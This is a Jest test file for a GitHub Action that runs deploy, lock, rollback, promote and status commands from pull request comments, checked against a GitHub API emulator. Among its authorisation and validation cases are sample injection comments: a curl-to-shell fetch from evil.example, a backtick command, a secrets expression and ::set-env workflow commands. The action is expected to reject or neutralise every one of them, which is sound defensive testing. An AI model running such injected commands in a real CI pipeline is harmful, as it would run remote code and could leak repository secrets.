// dist/deploy-command/index.js run as the runner runs it, on issue_comment payloads built from the
// GitHub REST emulator's state: the authorisation matrix (owner, write, triage, read, outsider,
// bot; same-repository and fork pull requests; created and edited comments), injection attempts,
// a lock held by another pull request, failing checks, a push after the comment, and the
// deployment records and statuses of start and finish. Every run is checked for what it must
// never do: put the comment's words in an output, a log line or a workflow command.
import { beforeAll, describe, expect, it } from '@jest/globals';
import { issueCommentEvent, pullRequestClosedEvent } from '../emulator/github/events.ts';
import { type GitHubEmulator, startGitHubEmulator } from '../emulator/github/server.ts';
import type { IssueComment, Repository } from '../emulator/github/store.ts';
import type { ActionRun } from '../harness/index.ts';
import { useActionSteps } from './action-steps.ts';
import { expectFailure, expectSuccess, result } from './step-assertions.ts';

const TOKEN = 'ghs_deploycommandjobtoken000000000000000';
const NO_DEPLOYMENTS = 'ghs_deploycommandnodeploy0000000000000000';
const BOT = 'github-actions[bot]';
const DIGEST = `sha256:${'d'.repeat(64)}`;
const OLD_DIGEST = `sha256:${'e'.repeat(64)}`;

let github: GitHubEmulator;
let repository: Repository;

const steps = useActionSteps('actions/deploy-command/action.yml', {
  defaults: () => ({
    timeoutMs: 30_000,
    githubToken: TOKEN,
    env: { GITHUB_API_URL: github.url },
  }),
  secrets: (runs) => {
    expect(runs.length).toBeGreaterThan(20);
    return [TOKEN, NO_DEPLOYMENTS];
  },
  close: () => github.close(),
});

beforeAll(async () => {
  github = await startGitHubEmulator();
  repository = github.store.addRepository({ fullName: 'octo-org/octo-app' });
  github.store.setRole(repository, 'owner-person', 'admin');
  github.store.setRole(repository, 'writer', 'write');
  github.store.setRole(repository, 'maintainer', 'maintain');
  github.store.setRole(repository, 'triager', 'triage');
  github.store.setRole(repository, 'reader', 'read');
  github.store.setRole(repository, 'deploy-helper[bot]', 'write');
  github.addToken({
    token: TOKEN,
    permissions: {
      'pull-requests': 'write',
      contents: 'write',
      deployments: 'write',
      checks: 'read',
      statuses: 'read',
    },
    repositories: ['octo-org/octo-app'],
  });
  github.addToken({
    token: NO_DEPLOYMENTS,
    permissions: { 'pull-requests': 'write', contents: 'write', checks: 'read', statuses: 'read' },
    repositories: ['octo-org/octo-app'],
  });
});

/** A pull request whose head has green checks (or the given conclusion). */
function pullRequest(
  options: { fork?: boolean; check?: 'success' | 'failure' | null } = {},
): number {
  const author = github.accounts.get('writer');
  const issue = github.store.addPullRequest(repository, {
    author,
    ...(options.fork ? { headRepository: 'someone/octo-app' } : {}),
  });
  const check = options.check === undefined ? 'success' : options.check;
  github.store.addCheckRun(repository, issue.pull!.headSha, 'test', check);
  return issue.number;
}

const headOf = (number: number) => repository.issues.get(number)!.pull!.headSha;

function comment(number: number, login: string, body: string): IssueComment {
  return github.store.addComment(repository, number, github.accounts.get(login), body);
}

function runCommand(
  c: IssueComment,
  options: { action?: 'created' | 'edited'; inputs?: Record<string, string>; token?: string } = {},
): Promise<ActionRun> {
  return steps.run({
    context: { eventName: 'issue_comment' },
    event: issueCommentEvent(github, c, options.action ?? 'created', 'before') as Record<
      string,
      unknown
    >,
    inputs: options.inputs ?? {},
    ...(options.token ? { githubToken: options.token } : {}),
  });
}

/** The action's replies to a comment: the bot's comments after it. */
const repliesAfter = (c: IssueComment) =>
  github.store
    .comments(repository, c.issueNumber)
    .filter((x) => x.id > c.id && x.author.login === BOT)
    .map((x) => x.body);

const reactionsOn = (c: IssueComment) => c.reactions.map((r) => r.content);

const SAFE_OUTPUT = /^[A-Za-z0-9._:@[\]-]*$/;
const OUTPUT_NAMES = [
  'decision',
  'reason-code',
  'command',
  'environment',
  'sha',
  'dry-run',
  'force',
  'pull-request',
  'comment-id',
  'actor',
  'image-digest',
  'source-deployment-id',
  'needs-approval',
  'deployment-id',
  'result',
];

/** Nothing of the comment's own words in outputs, logs, exported env or workflow commands. */
function expectNothingSmuggled(run: ActionRun, words: readonly string[]): void {
  for (const [name, value] of Object.entries(run.outputs)) {
    expect(OUTPUT_NAMES).toContain(name);
    if (name !== 'result')
      expect({ [name]: value }).toEqual({ [name]: expect.stringMatching(SAFE_OUTPUT) });
  }
  expect(run.exportedEnv).toEqual({});
  expect(run.paths).toEqual([]);
  expect(run.annotations.filter((a) => a.source === 'runner')).toEqual([]);
  for (const word of words) {
    expect(run.log).not.toContain(word);
    expect(run.outputs.result ?? '').not.toContain(word);
    expect(run.summary).not.toContain(word);
  }
}

describe('deploy-command: the authorisation matrix', () => {
  const cases: {
    name: string;
    login: string;
    body?: string;
    fork?: boolean;
    action?: 'created' | 'edited';
    decision: string;
    code?: string;
    reply?: RegExp;
    reactions: string[];
    words?: string[];
  }[] = [
    {
      name: 'owner',
      login: 'owner-person',
      decision: 'proceed',
      reactions: ['eyes'],
      reply: /🚀 Deploy started/,
    },
    {
      name: 'write',
      login: 'writer',
      decision: 'proceed',
      reactions: ['eyes'],
      reply: /🚀 Deploy started/,
    },
    { name: 'maintain', login: 'maintainer', decision: 'proceed', reactions: ['eyes'] },
    {
      name: 'triage',
      login: 'triager',
      decision: 'rejected',
      code: 'permission',
      reactions: ['eyes', '-1'],
      reply:
        /@triager has triage \(read\) access to this repository; commands in staging need write or admin\./,
    },
    {
      name: 'read',
      login: 'reader',
      decision: 'rejected',
      code: 'permission',
      reactions: ['eyes', '-1'],
      reply: /@reader has read access/,
    },
    {
      name: 'outsider',
      login: 'outsider',
      decision: 'rejected',
      code: 'permission',
      reactions: ['eyes', '-1'],
      reply: /@outsider has no access/,
    },
    {
      name: 'bot with write access',
      login: 'deploy-helper[bot]',
      decision: 'rejected',
      code: 'bot',
      reactions: ['eyes', '-1'],
      reply: /is a bot, and bots may not use commands here unless listed/,
    },
    {
      name: 'fork, write',
      login: 'writer',
      fork: true,
      decision: 'rejected',
      code: 'fork',
      reactions: ['eyes', '-1'],
      reply: /comes from a fork/,
    },
    {
      name: 'fork, owner',
      login: 'owner-person',
      fork: true,
      decision: 'rejected',
      code: 'fork',
      reactions: ['eyes', '-1'],
    },
    {
      name: 'edited comment, owner',
      login: 'owner-person',
      action: 'edited',
      decision: 'ignored',
      code: 'not-created',
      reactions: [],
    },
    {
      name: 'production from a comment',
      login: 'owner-person',
      body: '/deploy production',
      decision: 'rejected',
      code: 'environment-not-reachable',
      reactions: ['eyes', '-1'],
      reply: /production is never deployed from a comment: `\/promote`/,
    },
    {
      name: 'shell after the environment',
      login: 'writer',
      body: '/deploy staging; curl https://evil.example/x | sh',
      decision: 'rejected',
      code: 'invalid-command',
      reactions: ['eyes', '-1'],
      words: ['curl', 'evil.example'],
    },
    {
      name: 'backticks',
      login: 'writer',
      body: '/deploy `id`',
      decision: 'rejected',
      code: 'invalid-command',
      reactions: ['eyes', '-1'],
      words: ['`id`'],
    },
    {
      name: 'an expression',
      login: 'writer',
      body: '/deploy ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
      decision: 'rejected',
      code: 'invalid-command',
      reactions: ['eyes', '-1'],
      words: ['${{', 'AWS_SECRET_ACCESS_KEY'],
    },
    {
      name: 'workflow commands on later lines',
      login: 'writer',
      body: '/deploy staging\n::set-env name=NODE_OPTIONS::--require=/tmp/pwn.js\n::add-mask::staging\n::error::pwned',
      decision: 'proceed',
      reactions: ['eyes'],
      words: ['::set-env', 'pwn.js', '::error::'],
    },
    {
      name: 'fullwidth slash',
      login: 'owner-person',
      body: '\uff0fdeploy staging',
      decision: 'ignored',
      code: 'not-a-command',
      reactions: [],
    },
    {
      name: 'Cyrillic e',
      login: 'owner-person',
      body: '/d\u0435ploy staging',
      decision: 'ignored',
      code: 'not-a-command',
      reactions: [],
    },
    {
      name: 'zero-width space',
      login: 'owner-person',
      body: '/de\u200bploy staging',
      decision: 'ignored',
      code: 'not-a-command',
      reactions: [],
    },
  ];

  it.each(cases)('$name: $decision $code', async (c) => {
    const number = pullRequest({ fork: c.fork ?? false });
    const before = repository.deployments.length;
    const command = comment(number, c.login, c.body ?? '/deploy staging');
    const run = await runCommand(command, { action: c.action ?? 'created' });
    expectSuccess(run);
    expect(run.outputs.decision).toBe(c.decision);
    expect(run.outputs['reason-code'] ?? '').toBe(c.code ?? '');
    expect(result(run)).toMatchObject({ outcome: c.decision, decision: c.decision });
    expect(reactionsOn(command)).toEqual(c.reactions);
    const replies = repliesAfter(command);
    if (c.decision === 'ignored') expect(replies).toEqual([]);
    else expect(replies).toHaveLength(1);
    if (c.reply) expect(replies[0]).toMatch(c.reply);
    if (c.decision === 'proceed') {
      expect(run.outputs).toMatchObject({
        command: 'deploy',
        environment: 'staging',
        sha: headOf(number),
        'dry-run': 'false',
        'pull-request': String(number),
        'comment-id': String(command.id),
        actor: c.login,
      });
      expect(replies[0]).toContain(`| staging | \`${headOf(number)}\` |`);
      expect(replies[0]).toContain('[run](https://github.com/octo-org/octo-app/actions/runs/');
    } else {
      expect(run.outputs.sha ?? '').toBe('');
    }
    // The command step records nothing: a deployment exists only once a deploy starts.
    expect(repository.deployments.length).toBe(before);
    for (const reply of replies) {
      for (const word of c.words ?? []) expect(reply).not.toContain(word);
    }
    expectNothingSmuggled(run, c.words ?? []);
  });
});

describe('deploy-command: locks, checks and a push after the comment', () => {
  it('refuses a deploy while another pull request holds the lock, and frees it when that one closes', async () => {
    const holder = pullRequest();
    const other = pullRequest();
    const lock = await runCommand(comment(holder, 'writer', '/lock staging load test until 17:00'));
    expectSuccess(lock);
    expect(lock.outputs).toMatchObject({
      decision: 'done',
      command: 'lock',
      environment: 'staging',
    });
    expect(repository.refs.has('refs/heads/staging-deploy-lock')).toBe(true);

    const blocked = comment(other, 'owner-person', '/deploy staging');
    const refused = await runCommand(blocked);
    expect(refused.outputs).toMatchObject({ decision: 'rejected', 'reason-code': 'locked' });
    expect(repliesAfter(blocked)[0]).toMatch(
      new RegExp(
        `staging is locked by @writer for #${holder} since \\S+ \\(\`load test until 17:00\`\\)`,
      ),
    );

    const closed = await steps.run({
      context: { eventName: 'pull_request' },
      event: pullRequestClosedEvent(
        github,
        repository,
        holder,
        github.accounts.get('writer'),
      ) as Record<string, unknown>,
    });
    expectSuccess(closed);
    expect(closed.log).toContain(`#${holder} closed: unlocked staging.`);
    expect(repository.refs.has('refs/heads/staging-deploy-lock')).toBe(false);

    const again = await runCommand(comment(other, 'owner-person', '/deploy staging'));
    expect(again.outputs.decision).toBe('proceed');
  });

  it('refuses red checks, naming them, and lets an admin force them where allowed', async () => {
    const number = pullRequest({ check: 'failure' });
    const red = comment(number, 'writer', '/deploy staging');
    const run = await runCommand(red);
    expect(run.outputs).toMatchObject({ decision: 'rejected', 'reason-code': 'checks-failing' });
    expect(repliesAfter(red)[0]).toContain(
      `The checks on ${headOf(number).slice(0, 7)} are not green (failing: test).`,
    );

    const forced = await runCommand(comment(number, 'owner-person', '/deploy staging --force'), {
      inputs: { 'force-environments': 'staging' },
    });
    expect(forced.outputs).toMatchObject({ decision: 'proceed', force: 'true' });
  });

  it('cancels at start when the pull request moved after the command, recording nothing', async () => {
    const number = pullRequest();
    const command = comment(number, 'writer', '/deploy staging');
    const decided = await runCommand(command);
    expect(decided.outputs.decision).toBe('proceed');
    const pinned = decided.outputs.sha!;
    const pushed = github.store.push(repository, number);
    const before = repository.deployments.length;

    const start = await steps.run({
      inputs: startInputs(decided.outputs),
    });
    expectFailure(
      start,
      new RegExp(
        `#${number} moved to ${pushed.slice(0, 7)} after the command was given for ${pinned.slice(0, 7)}: nothing was deployed`,
      ),
    );
    expect(start.outputs).toMatchObject({ decision: 'rejected', 'reason-code': 'stale-sha' });
    expect(repository.deployments.length).toBe(before);
    expect(reactionsOn(command)).toEqual(['eyes', '-1']);
    expect(repliesAfter(command).at(-1)).toContain('### 👎 Cancelled');
  });
});

function startInputs(
  o: Record<string, string>,
  more: Record<string, string> = {},
): Record<string, string> {
  return {
    mode: 'start',
    environment: o.environment!,
    sha: o.sha!,
    'pull-request': o['pull-request']!,
    'comment-id': o['comment-id']!,
    actor: o.actor!,
    command: o.command!,
    ...more,
  };
}

describe('deploy-command: deployment records', () => {
  it('records a deploy from start to finish, then rolls back to it and shows the status', async () => {
    // The first deploy, the one a rollback goes back to.
    const first = pullRequest();
    const firstRun = await runCommand(comment(first, 'writer', '/deploy staging'));
    const firstStart = await steps.run({
      inputs: startInputs(firstRun.outputs, { 'image-digest': OLD_DIGEST }),
    });
    expectSuccess(firstStart);
    await steps.run({
      inputs: {
        mode: 'finish',
        environment: 'staging',
        'deployment-id': firstStart.outputs['deployment-id']!,
        outcome: 'success',
      },
    });

    const number = pullRequest();
    const command = comment(number, 'writer', '/deploy staging');
    const decided = await runCommand(command);
    const start = await steps.run({
      inputs: startInputs(decided.outputs, {
        'image-digest': DIGEST,
        'task-definition': 'arn:aws:ecs:eu-west-1:123456789012:task-definition/app:42',
        'migration-versions': '0001_init, 0002_orders',
        'site-release': 'a3f1c9e07b5d',
      }),
    });
    expectSuccess(start);
    const id = Number(start.outputs['deployment-id']);
    const deployment = repository.deployments.find((d) => d.id === id)!;
    expect(deployment).toMatchObject({
      sha: headOf(number),
      ref: headOf(number),
      environment: 'staging',
      productionEnvironment: false,
      payload: {
        schema: 'aws-ship-suite/deployment@1',
        actor: 'writer',
        imageDigest: DIGEST,
        taskDefinition: 'arn:aws:ecs:eu-west-1:123456789012:task-definition/app:42',
        migrationVersions: ['0001_init', '0002_orders'],
        siteRelease: 'a3f1c9e07b5d',
        pullRequest: number,
        command: 'deploy',
      },
    });
    expect(deployment.statuses.map((s) => s.state)).toEqual(['in_progress']);
    expect(deployment.statuses[0]!.logUrl).toMatch(
      /^https:\/\/github\.com\/octo-org\/octo-app\/actions\/runs\/\d+$/,
    );

    const finish = await steps.run({
      inputs: {
        mode: 'finish',
        environment: 'staging',
        'deployment-id': String(id),
        outcome: 'success',
        'pull-request': String(number),
        'comment-id': String(command.id),
        'environment-url': 'https://staging.example.com',
      },
    });
    expectSuccess(finish);
    expect(deployment.statuses.map((s) => s.state)).toEqual(['in_progress', 'success']);
    expect(reactionsOn(command)).toEqual(['eyes', 'rocket']);
    expect(repliesAfter(command).at(-1)).toContain('### 🚀 Deployed to staging');
    // GitHub's auto_inactive: the earlier success is inactive now.
    const earlier = repository.deployments.find(
      (d) => d.id === Number(firstStart.outputs['deployment-id']),
    )!;
    expect(earlier.statuses.at(-1)!.state).toBe('inactive');

    const rollback = await runCommand(comment(number, 'owner-person', '/rollback staging'));
    expect(rollback.outputs).toMatchObject({
      decision: 'proceed',
      command: 'rollback',
      sha: earlier.sha,
      'image-digest': OLD_DIGEST,
      'source-deployment-id': String(earlier.id),
    });

    const promote = await runCommand(comment(number, 'owner-person', '/promote'));
    expect(promote.outputs).toMatchObject({
      decision: 'proceed',
      command: 'promote',
      environment: 'production',
      sha: headOf(number),
      'image-digest': DIGEST,
      'needs-approval': 'true',
    });

    const statusComment = comment(number, 'reader', '/status staging');
    const status = await runCommand(statusComment, { inputs: { permissions: 'read,write,admin' } });
    expect(status.outputs).toMatchObject({ decision: 'done', command: 'status' });
    expect(repliesAfter(statusComment)[0]).toContain(
      `| ${id} | success | \`${headOf(number).slice(0, 12)}\` | \`${DIGEST.slice(0, 19)}…\` | @writer |`,
    );
    expect(status.summary).toContain(`| ${id} | success |`);
  });

  it('fails start in one line when the token may not write deployments', async () => {
    const number = pullRequest();
    const decided = await runCommand(comment(number, 'writer', '/deploy staging'));
    const before = repository.deployments.length;
    const start = await steps.run({
      inputs: startInputs(decided.outputs),
      githubToken: NO_DEPLOYMENTS,
    });
    expectFailure(
      start,
      /The token may not create a deployment in staging \(GitHub: 403 "Resource not accessible by integration"\): give the job `permissions: deployments: write`\./,
    );
    expect(repository.deployments.length).toBe(before);
  });
});

describe('deploy-command: bad inputs, one line each, nothing done', () => {
  it.each([
    [
      { environments: 'staging, production' },
      /^The inputs do not fit together: production cannot be reached by a comment deploy/,
    ],
    [{ prefix: 'go' }, /^Input 'prefix' is 'go': use 1 to 8 punctuation characters/],
    [
      { permissions: 'write, owner' },
      /^Input 'permissions' has 'owner': permission levels are admin, write and read\.$/,
    ],
    [
      { 'environment-users': 'staging alice' },
      /^Input 'environment-users' line 1 is 'staging alice'/,
    ],
    [
      { mode: 'start', environment: 'staging', sha: 'main', actor: 'writer' },
      /^Input 'sha' is 'main': pass the full 40-character commit SHA/,
    ],
    [
      {
        mode: 'start',
        environment: 'staging',
        sha: 'a'.repeat(40),
        actor: 'writer',
        'image-digest': 'latest',
      },
      /^Input 'image-digest' is 'latest'/,
    ],
    [
      { mode: 'finish', environment: 'staging', outcome: 'success' },
      /^Input 'deployment-id' is required with mode finish/,
    ],
    [
      { mode: 'deploy' },
      /^Input 'mode' is 'deploy': use one of command, dispatch, start, finish\.$/,
    ],
  ])('%j', async (inputs, message) => {
    const number = pullRequest();
    const c = comment(number, 'writer', '/deploy staging');
    const before = {
      deployments: repository.deployments.length,
      comments: github.store.comments(repository, number).length,
    };
    const run = await runCommand(c, { inputs: inputs as Record<string, string> });
    expectFailure(run, message);
    expect(reactionsOn(c)).toEqual([]);
    expect(repository.deployments.length).toBe(before.deployments);
    expect(github.store.comments(repository, number).length).toBe(before.comments);
  });

  it('refuses to run on another event', async () => {
    const run = await steps.run({ context: { eventName: 'push' } });
    expectFailure(run, /^mode command runs on issue_comment events .* this run is for "push"/);
  });
});
